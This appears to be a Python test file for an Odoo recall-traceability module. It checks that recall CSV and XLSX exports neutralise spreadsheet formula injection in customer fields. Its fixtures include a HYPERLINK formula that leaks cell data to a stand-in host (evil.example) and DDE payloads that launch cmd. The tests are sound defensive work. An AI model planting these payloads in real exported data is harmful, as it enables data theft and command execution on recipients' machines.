# Copyright 2026 serial_traceability developers
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Recall exports: what a customer or vendor typed never becomes a spreadsheet formula.

A customer named ``=HYPERLINK(...)`` (partners are edited by sales and portal users)
must reach the recall's CSV files as text: the units file, the customers file and the
file mailed to each customer. The XLSX writes text cells, which no program runs.
"""
import base64
import csv
import io

import openpyxl

from .recall_common import RecallCase

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the recall")'
EVIL_CITY = "+cmd|' /C calc'!A0"
EVIL_EMAIL = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_STREET = "-2+3"


class TestExportFormulas(RecallCase):

    @classmethod
    def setUpClass(cls):
        super(TestExportFormulas, cls).setUpClass()
        cls.customer_a.write({"name": EVIL_NAME, "city": EVIL_CITY, "email": EVIL_EMAIL,
                              "street": EVIL_STREET})

    def setUp(self):
        super(TestExportFormulas, self).setUp()
        u1, _u2 = self.build_two_pumps()
        self.flow._deliver(self.customer_a, [(self.pump, 1, u1)])
        self.recall = self.create_recall(self.lot(self.cap, "C1"))

    @staticmethod
    def _rows(datas):
        return list(csv.reader(io.StringIO(base64.b64decode(datas).decode("utf-8-sig"))))

    def _download(self, action):
        attachment_id = int(action["url"].split("/")[3].split("?")[0])
        return self._rows(self.env["ir.attachment"].browse(attachment_id).datas)

    def assertNoFormula(self, rows):
        cells = [cell for row in rows for cell in row]
        self.assertFalse([c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")],
                         "cells a spreadsheet would run as formulas")

    def test_units_csv(self):
        rows = self._download(self.recall.action_export_csv())
        self.assertNoFormula(rows)
        u1 = dict(zip(rows[0], next(r for r in rows if r[0] == "U1")))
        self.assertEqual(u1["Ship-to customer"], "'" + EVIL_NAME)
        # the address starts with the street: neutralised as a whole, text kept
        self.assertEqual(u1["Ship-to address"], "'%s, %s" % (EVIL_STREET, EVIL_CITY))
        self.assertEqual(u1["Quantity"], "1.0")

    def test_customers_csv(self):
        rows = self._download(self.recall.action_export_contacts_csv())
        self.assertNoFormula(rows)
        self.assertEqual(rows[1][:2], ["'" + EVIL_NAME, "'" + EVIL_EMAIL])

    def test_csv_mailed_to_the_customer(self):
        self.recall.write({"notice_text": "Stop using the units below."})
        self.recall.action_notify_customers()
        mail = self.env["mail.mail"].search([("model", "=", "serial.recall"),
                                             ("res_id", "=", self.recall.id)])
        self.assertEqual(mail.recipient_ids, self.customer_a)
        rows = self._rows(mail.attachment_ids.datas)
        self.assertNoFormula(rows)
        self.assertEqual(dict(zip(rows[0], rows[1]))["Ship-to customer"], "'" + EVIL_NAME)

    def test_xlsx_writes_text_cells(self):
        report = self.env.ref("serial_traceability.serial_recall_xlsx_report").sudo(self.qm)
        data, _fmt = report.render_xlsx(self.recall.ids, {})
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows()
                 for cell in row if cell.value is not None]
        self.assertFalse([c.coordinate for c in cells if c.data_type == "f"])
        values = {c.value for c in cells}
        # the text as typed, no apostrophe: a text cell needs none
        self.assertTrue({EVIL_NAME, EVIL_EMAIL} <= values)
